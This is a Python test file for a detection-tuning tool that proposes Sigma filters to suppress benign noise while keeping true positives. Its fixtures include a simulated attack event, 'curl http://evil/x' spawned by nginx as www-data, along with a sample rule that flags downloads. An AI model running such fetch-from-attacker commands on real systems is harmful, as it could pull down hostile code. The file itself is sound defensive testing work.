"""Proposed filters are Sigma, remove what they say they remove, and keep every true positive."""

from __future__ import annotations

from pathlib import Path

import msgspec
import pytest
import yaml

from tocsin.detect.history.replay import raw_events
from tocsin.detect.quality.lint.registry import Level
from tocsin.detect.quality.lint.run import lint_text
from tocsin.detect.quality.tune import tune
from tocsin.detect.sigma.library import load
from tocsin.detect.sigma.logsource import RAW, Mapping
from tocsin.model.event import Event, Value
from tocsin.model.rule import Rule

_RULE = """\
title: Download By A Tool
id: 5d4c5a3e-6b1d-4b0f-9a7e-2c8f3e1d0a11
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contains: http
    condition: selection
"""


@pytest.fixture
def rule_file(tmp_path: Path) -> Path:
    """The rule, in a file."""
    file = tmp_path / "rule.yml"
    file.write_text(_RULE)
    return file


def _rule(file: Path, mapping: Mapping | None = None) -> Rule:
    return load([file], mapping).rules[0]


def _start(command: str, parent: str, user: str) -> Event:
    values: dict[str, Value] = {
        "time": 1,
        "activity_id": 1,
        "process.cmd_line": command,
        "process.parent_process.file.path": parent,
        "process.user.name": user,
    }
    return Event(1007, values)


def _noise(count: int) -> list[Event]:
    return [_start(f"curl http://mirror/{n}", "/opt/updater/run", "updater") for n in range(count)]


_ATTACK = _start("curl http://evil/x", "/usr/sbin/nginx", "www-data")


def test_the_filter_removes_noise_and_keeps_the_attack(rule_file: Path) -> None:
    """The engine itself, with the filter loaded, finds the attack and none of the noise."""
    found = tune(_rule(rule_file), _noise(9), [_ATTACK])
    (trial,) = found.trials
    assert (trial.removes, trial.keeps) == (9, 1)
    said = yaml.safe_load(trial.filter)
    assert said["filter"]["selection"] == {"ParentImage": "/opt/updater/run", "User": "updater"}
    assert said["filter"]["rules"] == ["5d4c5a3e-6b1d-4b0f-9a7e-2c8f3e1d0a11"]
    assert trial.expression.startswith("process.parent_process.file.path = '/opt/updater/run' AND ")


def test_the_filter_is_sigma_without_fault(rule_file: Path) -> None:
    """The linter has no error or warning about a proposed filter."""
    (trial,) = tune(_rule(rule_file), _noise(9), [_ATTACK]).trials
    graver = [each for each in lint_text(Path("filter_example_rule.yml"), trial.filter) if each.level is not Level.INFO]
    assert graver == []


def test_events_that_the_rule_does_not_find_are_left_out(rule_file: Path) -> None:
    """Only what the rule finds can be a false positive of it."""
    silent = _start("ls", "/opt/updater/run", "updater")
    found = tune(_rule(rule_file), [*_noise(2), silent], [_ATTACK, silent])
    assert (found.false_positives, found.true_positives) == (2, 1)


def test_a_filter_that_would_lose_a_true_positive_is_not_proposed(rule_file: Path) -> None:
    """Sigma minds no capitals: where only they set events apart, a suppression can do it and a filter cannot."""
    other = _start("curl http://evil/x", "/opt/updater/RUN", "Updater")
    found = tune(_rule(rule_file), _noise(3), [other])
    assert not any(trial.keeps == 0 for trial in found.trials)
    assert [trial.keeps for trial in found.refused] == [0]


@pytest.mark.parametrize(
    "user", ["a*b", "a?", "a\\", "a\\*", "\\\\host\\x", "it's", 'say "x"', "line\nbreak", "%x%", "*"]
)
def test_values_with_special_characters_mean_themselves(rule_file: Path, user: str) -> None:
    """Wildcards, backslashes, quotes and line ends of a value are escaped: only that very value is left out."""
    like = user.replace("*", "zz").replace("?", "z").replace("\\", "zz")
    noise = [_start(f"curl http://m/{n}", "/usr/sbin/nginx", user) for n in range(5)]
    attack = _start("curl http://evil", "/usr/sbin/nginx", like if like != user else "other")
    (trial,) = tune(_rule(rule_file), noise, [attack]).trials
    assert (trial.removes, trial.keeps) == (5, 1)


def test_raw_events_are_filtered_by_the_rules_own_fields(rule_file: Path) -> None:
    """For events in their own terms, the filter names their own fields."""
    lines = [msgspec.json.encode({"CommandLine": "curl http://m", "ParentImage": "/opt/u"})] * 3
    events = [event for event in raw_events(lines) if isinstance(event, Event)]
    (trial,) = tune(_rule(rule_file, RAW), events, [], RAW).trials
    assert yaml.safe_load(trial.filter)["filter"]["selection"]["ParentImage"] == "/opt/u"
    assert trial.removes == 3
